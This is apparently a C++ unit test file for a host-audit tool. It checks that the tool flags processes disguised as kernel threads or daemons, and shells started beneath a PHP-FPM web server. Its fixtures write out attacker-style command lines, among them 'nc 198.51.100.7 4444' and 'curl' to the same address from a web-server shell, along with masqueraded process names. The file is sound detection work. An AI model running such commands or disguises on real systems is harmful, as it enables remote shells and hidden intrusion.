// What the audit says of running processes: borrowed names, and shells below a web server. The table is written here, as /proc would give it.
#include "agent/audit/host/processes.hpp"

#include <gtest/gtest.h>

#include "agent/temporary_folder.hpp"

namespace pinfold::agent::audit {
namespace {

constexpr std::uint32_t kWww = 33;

RunningProcess process(std::uint32_t pid, std::uint32_t parent, std::uint32_t uid, const std::string& exe, std::vector<std::string> arguments) {
  RunningProcess one;
  one.pid = pid;
  one.parent = parent;
  one.uid = uid;
  one.comm = exe.substr(exe.rfind('/') + 1);
  one.exe = exe;
  one.cwd = "/";
  one.standard_input = "/dev/null";
  one.arguments = std::move(arguments);
  return one;
}

/// "KIND PID", as they stand in the report.
std::vector<std::string> said_of(const std::vector<RunningProcess>& processes) {
  const TemporaryFolder root;
  ProcessTable table;
  for (const RunningProcess& one : processes) {
    table.emplace(one.pid, one);
  }
  Report report;
  check_processes(HostFiles(root.path().string()), table, PeopleNames{{{0, "root"}, {kWww, "www-data"}, {1000, "bob"}}}, report);
  std::vector<std::string> said;
  for (const Finding& finding : report.findings) {
    said.push_back(finding.kind + " " + finding.subject.substr(0, finding.subject.find(' ')));
  }
  return said;
}

using Said = std::vector<std::string>;

TEST(Processes, ThatCallThemselvesKernelThreadsAreNamedAndKernelThreadsAreNot) {
  RunningProcess thread = process(7, 2, 0, "", {});
  thread.comm = "kworker/0:1";
  EXPECT_EQ(said_of({process(1, 0, 0, "/usr/lib/systemd/systemd", {"/sbin/init"}), process(2, 0, 0, "", {}), thread,
                     process(40, 1, kWww, "/usr/bin/perl", {"[kworker/0:2]"}), process(41, 1, 1000, "/home/bob/.cache/x", {"[kthreadd]", "-q"})}),
            (Said{"false_name 40", "false_name 41"}));
}

TEST(Processes, OfScriptsThatCallThemselvesADaemonAreNamedAndDaemonsAreNot) {
  EXPECT_EQ(
      said_of({process(50, 1, kWww, "/usr/bin/perl", {"/usr/sbin/httpd -k start"}), process(51, 1, kWww, "/usr/bin/python3.11", {"sshd:", "x"}),
               process(52, 1, 0, "/usr/sbin/sshd", {"sshd: /usr/sbin/sshd -D [listener]"}), process(53, 1, 0, "/usr/sbin/cron", {"/usr/sbin/cron"}),
               process(54, 1, 0, "/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/fail2ban-server"}),
               process(55, 1, 0, "/usr/bin/bash", {"-bash"})}),
      (Said{"false_name 50", "false_name 51"}));
}

TEST(Processes, ShellsOfAWebServersAccountAreNamedBelowAWebServerOnly) {
  const RunningProcess fpm = process(60, 1, 0, "/usr/sbin/php-fpm8.2", {"php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"});
  const RunningProcess worker = process(61, 60, kWww, "/usr/sbin/php-fpm8.2", {"php-fpm: pool www"});
  EXPECT_EQ(said_of({fpm, worker, process(62, 61, kWww, "/usr/bin/dash", {"sh", "-c", "id"}),
                     process(63, 62, kWww, "/usr/bin/nc.openbsd", {"nc", "198.51.100.7", "4444"}),
                     process(64, 62, kWww, "/usr/bin/curl", {"curl", "-s", "http://198.51.100.7/"}),
                     process(65, 61, kWww, "/usr/bin/convert-im6.q16", {"convert", "a.jpg", "b.png"}),  // what a gallery runs all day
                     process(66, 1, kWww, "/usr/bin/dash", {"sh", "/usr/local/bin/clean"}),             // cron's
                     process(67, 60, 0, "/usr/bin/dash", {"sh", "-c", "reload"})}),                     // root's
            (Said{"shell_of_web_server 62", "shell_of_web_server 63", "shell_of_web_server 64"}));
}

}  // namespace
}  // namespace pinfold::agent::audit
